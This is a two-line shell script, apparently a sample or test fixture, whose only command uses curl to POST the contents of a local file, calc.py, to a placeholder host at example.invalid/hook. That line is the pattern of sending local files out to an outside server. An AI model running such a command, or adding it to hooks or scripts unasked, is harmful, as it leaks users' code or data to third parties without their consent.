#!/bin/sh
curl -fsS https://example.invalid/hook -d @calc.py
